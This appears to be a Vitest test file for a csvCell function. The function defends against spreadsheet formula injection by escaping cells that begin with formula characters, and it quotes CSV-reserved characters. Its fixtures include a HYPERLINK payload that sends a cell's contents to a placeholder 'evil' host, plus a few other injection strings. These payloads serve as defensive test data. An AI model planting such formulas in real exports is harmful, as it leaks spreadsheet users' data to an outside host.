import { describe, expect, it } from "vitest";
import { csvCell } from "../src/index.ts";

const text = (value: string) => csvCell(value, true);

describe("a cell of text", () => {
  it("a text that a spreadsheet would execute is marked as text", () => {
    for (const formula of ["=1+1", "+1", "-1", "@SUM(A1)", "=HYPERLINK(http://evil)", "-2+3"]) {
      expect(text(formula)).toBe(`"'${formula}"`);
    }
    expect(text('=HYPERLINK("http://evil?"&A1,"x")')).toBe(
      `"'=HYPERLINK(""http://evil?""&A1,""x"")"`,
    );
    for (const start of ["\t", "\r", "\n", " ", "\u00a0", "\ufeff", "\u3000"]) {
      expect(text(`${start}=1+1`)).toBe(`"'${start}=1+1"`);
    }
    for (const start of ["\t", "\r", "\n"]) expect(text(`${start}cmd`)).toBe(`"'${start}cmd"`);
    for (const start of ["\uff1d", "\uff0b", "\uff0d", "\uff20"]) {
      expect(text(`${start}1`)).toBe(`"'${start}1"`);
    }
  });

  it("a text that is no formula is unchanged", () => {
    for (const plain of [
      "a",
      "1+1",
      "a=b",
      "me@example.com",
      "x-y",
      "#1",
      "'quoted'",
      "ä\u{1f697}",
    ]) {
      expect(text(plain)).toBe(plain);
    }
  });

  it("a text with a character that CSV reserves is quoted", () => {
    expect(text('a"b')).toBe('"a""b"');
    expect(text("a,b")).toBe('"a,b"');
    expect(text("a;b")).toBe('"a;b"');
    expect(text("a\r\nb")).toBe('"a\r\nb"');
    expect(text(" a ")).toBe('" a "');
  });
});

describe("a cell", () => {
  it("a number keeps its sign", () => {
    expect(csvCell("-5", false)).toBe("-5");
    expect(csvCell("+Infinity", false)).toBe("+Infinity");
  });

  it("null is an empty cell, and an empty text is a quoted empty text", () => {
    expect(csvCell(null, true)).toBe("");
    expect(text("")).toBe('""');
  });
});
